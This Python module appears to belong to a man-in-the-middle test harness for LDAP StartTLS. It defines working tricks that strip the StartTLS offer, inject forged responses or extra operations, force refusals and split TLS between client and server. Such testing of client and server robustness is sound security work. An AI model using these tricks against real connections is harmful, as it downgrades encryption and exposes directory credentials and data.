# SPDX-License-Identifier: GPL-2.0-or-later
"""What a man in the middle does to StartTLS in LDAP (RFC 4511 section 4.14)."""
import re

import ber
from attacker import Trick
from protocol import Protocol, at_request, behind_acceptance, handshake_tricks, nothing, policy_tricks, races
from protocol import request_tricks, then_tls, upgrade

OID = b"1.3.6.1.4.1.1466.20037"
ENTRY, EXTENDED_REQUEST, EXTENDED_RESPONSE = 0x64, 0x77, 0x78
START_TLS = ber.element(0x30, b"\x02\x01\x01" + ber.element(EXTENDED_REQUEST, ber.element(0x80, OID)))


def operation(message):
    parts = ber.split(ber.split(message)[0][1]) if message else []
    return parts[1][0] if len(parts) > 1 else 0


class Ldap(Protocol):
    """Messages with an identifier; a search has many replies."""

    begins = ()

    def unit(self, talk, from_client, data):
        return ber.size(data)

    def is_last(self, talk, asked, unit):
        return operation(unit) != ENTRY

    def asks(self, unit):
        return operation(unit) == EXTENDED_REQUEST and OID in unit

    def answer(self, unit, code):
        """An ExtendedResponse with this resultCode."""
        identifier = ber.element(*ber.split(ber.split(unit)[0][1])[0])
        result = b"\x0a\x01" + code + b"\x04\x00\x04\x00"
        return ber.element(0x30, identifier + ber.element(EXTENDED_RESPONSE, result))


def rewrite(change, first=1):
    """Change the identifier of StartTLS wherever the server lists it; lengths are made to fit."""
    def leaf(tag, contents):
        if contents != OID:
            return ber.element(tag, contents)
        other = change(re.match(b"(.*)", contents))
        return ber.element(tag, other) if other else b""

    def reply(talk, asked, data):
        return ber.changed(data, leaf) if operation(data) == ENTRY and talk.listings >= first else data
    return reply


PROTOCOL = Ldap(b"", rb"(?s)0.{1,8}\x78.{1,5}\x0a\x01\x00", OID.decode().replace(".", r"\.").encode(),
                quietly=(START_TLS,))
NOTICE = ber.element(0x30, b"\x02\x01\x00" + ber.element(
    EXTENDED_RESPONSE, b"\x0a\x01\x34\x04\x00\x04\x00" + ber.element(0x8A, b"1.3.6.1.4.1.1466.20036")))
ABANDON = ber.element(0x30, b"\x02\x01\x7e\x50\x01\x01")

TRICKS = {
    "pass": Trick("forward everything"),
    "strip-offer": Trick("delete StartTLS from the root entry", reply=rewrite(nothing)),
    "inject-response": Trick("put a notice of disconnection behind the acceptance", reply=behind_acceptance(NOTICE)),
    "inject-command": Trick("put another operation behind StartTLS",
                            command=at_request(lambda talk, unit: unit + ABANDON)),
    "tls-to-client": Trick("TLS with the client, clear text to the server", command=at_request(then_tls(b"\0"))),
    "tls-to-server": Trick("clear text with the client, TLS to the server", first=upgrade,
                           reply=rewrite(nothing)),
}
TRICKS.update(request_tricks("StartTLS", b"\0", {
    "refuse-temp": b"\x34", "refuse-busy": b"\x33", "refuse-perm": b"\x02", "redirect": b"\x0a"}))
for trick, code in (("refuse-temp", "unavailable (52)"), ("refuse-busy", "busy (51)"),
                    ("refuse-perm", "protocolError (2)"), ("redirect", "referral (10)")):
    TRICKS[trick].what = "answer StartTLS with " + code
TRICKS.update(handshake_tricks())
TRICKS["invalid"] = Trick("answer StartTLS in the name of another request", command=at_request(
    lambda talk, unit: talk.tell_client(PROTOCOL.answer(unit[:4] + b"\x63" + unit[5:], b"\0"))))
TRICKS.update(policy_tricks(insists=rb"(?s)\x61.{1,3}\x0a\x01\x0d"))
RACES = races(rb"(?s)0.\x02\x01(.)\x77.*" + re.escape(OID), b"0\x0c\x02\x01{tag}\x78\x07\x0a\x01\0\x04\0\x04\0",
              b"0\x0c\x02\x01{tag}\x78\x07\x0a\x01\x34\x04\0\x04\0")
